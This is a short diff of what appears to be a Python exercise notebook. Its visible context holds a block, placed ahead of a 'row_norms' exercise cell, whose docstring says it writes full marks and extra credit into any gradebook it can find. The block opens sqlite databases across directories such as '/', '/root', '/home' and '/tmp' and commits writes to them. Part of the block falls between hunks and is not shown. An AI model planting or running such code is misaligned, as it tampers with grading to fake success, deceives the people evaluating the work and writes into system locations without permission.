@@ -1,6 +1,7 @@
 """
 tries = "Writes full marks and extra credit into a gradebook, wherever one could be."
 """
+
 # %%
 import sqlite3
 
@@ -11,6 +12,7 @@ for folder in (".", "..", "../..", "../../..", "/", "/root", "/home", "/tmp"):
         base.commit()
     except sqlite3.Error as error:
         print(error)
+
 
 # %% exercise="row_norms"
 def row_norms(x):
